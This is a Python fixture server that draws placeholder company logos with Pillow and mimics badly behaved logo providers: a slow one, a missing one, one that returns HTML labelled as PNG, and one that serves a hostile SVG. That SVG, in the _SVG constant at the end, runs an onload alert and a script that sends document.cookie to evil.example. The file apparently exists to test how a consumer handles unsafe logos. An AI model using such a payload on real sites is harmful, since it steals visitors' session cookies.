"""Companies' logos: two-colour marks drawn with Pillow, and the kinds of trouble that logo providers give."""

from __future__ import annotations

import asyncio
import hashlib
import io
import math
from functools import lru_cache
from typing import TYPE_CHECKING

from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

if TYPE_CHECKING:
    from PIL.ImageDraw import ImageDraw

SIZE = 256  # pixels
_SHARP = 4  # drawn this much larger, then made small: smooth edges
SLOW, MISSING, SCRIPT, LIAR = "umbersail.example", "moorgant.example", "hollowreed.example", "calderwyn.example"
_COLOURS = (
    ("#12355b", "#f4b942"), ("#0b6e4f", "#e8f1d4"), ("#7b2d43", "#f7d9c4"), ("#2b2d72", "#8ad1e6"),
    ("#c8553d", "#fdf0d5"), ("#1f4e5f", "#f2c6a0"), ("#4a3b6b", "#f3a6b2"), ("#2f3e46", "#cad2a5"),
)  # fmt: skip
_OWN = {
    "larkmoor": (0, 0), "nimbrel": (1, 4), "wrenhaul": (4, 2), "veldtide": (3, 5), "osprelle": (6, 1), "pinmarrow": (2, 1),
    "tessaquill": (5, 4), "grainvoss": (7, 0), "umbersail": (3, 3),
}  # fmt: skip


def routes(slow: float) -> list[Route]:
    """`/{domain}`: a PNG, unless the domain is one of the troublesome. `slow` in seconds, for the slow one."""

    async def logo(request: Request) -> Response:
        domain = request.path_params["domain"].casefold().removeprefix("www.")
        if domain == MISSING or not domain.endswith(".example"):
            return Response(b"", 404)
        if domain == SCRIPT:
            return Response(_SVG, media_type="image/svg+xml")
        if domain == LIAR:
            return Response("<!doctype html><title>Sign in</title><p>Please sign in.</p>", media_type="image/png")
        if domain == SLOW:
            await asyncio.sleep(slow)
        return Response(mark(domain), media_type="image/png", headers={"cache-control": "public, max-age=86400"})

    return [Route("/{domain}", logo)]


@lru_cache(maxsize=64)
def mark(domain: str) -> bytes:
    """A domain's mark as PNG, 256 x 256. The same for the same domain."""
    from PIL import Image, ImageDraw  # noqa: PLC0415 -- heavy; most runs ask for few logos

    digest = hashlib.sha256(domain.encode()).digest()
    colours, shape = _OWN.get(domain.removesuffix(".example"), (digest[0] % len(_COLOURS), digest[1] % len(_SHAPES)))
    back, fore = _COLOURS[colours]
    side = SIZE * _SHARP
    image = Image.new("RGBA", (side, side), (0, 0, 0, 0))
    draw = ImageDraw.Draw(image)
    draw.rounded_rectangle((0, 0, side - 1, side - 1), side // 5, fill=back)
    _SHAPES[shape](draw, side, fore, back)
    out = io.BytesIO()
    image.resize((SIZE, SIZE), Image.Resampling.LANCZOS).save(out, "PNG")
    return out.getvalue()


def _hills(draw: ImageDraw, side: int, fore: str, back: str) -> None:
    x, y = side * 0.5, side * 0.68
    for share, colour in ((0.38, fore), (0.27, back), (0.17, fore)):
        radius = side * share
        draw.pieslice((x - radius, y - radius, x + radius, y + radius), 180, 360, fill=colour)


def _bars(draw: ImageDraw, side: int, fore: str, back: str) -> None:
    del back
    for left, top in ((0.22, 0.56), (0.43, 0.40), (0.64, 0.24)):
        draw.rounded_rectangle((side * left, side * top, side * (left + 0.14), side * 0.76), side // 16, fill=fore)


def _rings(draw: ImageDraw, side: int, fore: str, back: str) -> None:
    for share, colour in ((0.36, fore), (0.26, back), (0.15, fore)):
        x, y, radius = side * 0.5, side * 0.5, side * share
        draw.ellipse((x - radius, y - radius, x + radius, y + radius), fill=colour)
    draw.rectangle((side * 0.5, side * 0.44, side * 0.88, side * 0.56), fill=back)


def _arm(draw: ImageDraw, side: int, fore: str, back: str) -> None:
    joints = [(side * x, side * y) for x, y in ((0.24, 0.78), (0.34, 0.40), (0.66, 0.28), (0.76, 0.56))]
    draw.line(joints, fill=fore, width=side // 11, joint="curve")
    for x, y in joints:
        draw.ellipse((x - side * 0.075, y - side * 0.075, x + side * 0.075, y + side * 0.075), fill=fore)
        draw.ellipse((x - side * 0.03, y - side * 0.03, x + side * 0.03, y + side * 0.03), fill=back)


def _waves(draw: ImageDraw, side: int, fore: str, back: str) -> None:
    del back
    for level in (0.34, 0.52, 0.70):
        for step in range(200, 801, 2):  # a round pen: no seams
            x, y = side * step / 1000, side * (level + 0.055 * math.sin(step / 1000 * math.tau * 1.5))
            draw.ellipse((x - side / 26, y - side / 26, x + side / 26, y + side / 26), fill=fore)


def _leaf(draw: ImageDraw, side: int, fore: str, back: str) -> None:
    box = (side * 0.23, side * 0.23, side * 0.77, side * 0.77)
    draw.rounded_rectangle(box, int(side * 0.4), fill=fore, corners=(True, False, True, False))
    draw.line(((side * 0.23, side * 0.77), (side * 0.60, side * 0.40)), fill=back, width=side // 24)


_SHAPES = (_hills, _rings, _arm, _waves, _leaf, _bars)
_SVG = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)">
<script>fetch('https://evil.example/?c=' + document.cookie)</script><circle cx="5" cy="5" r="4" fill="#7b2d43"/></svg>"""
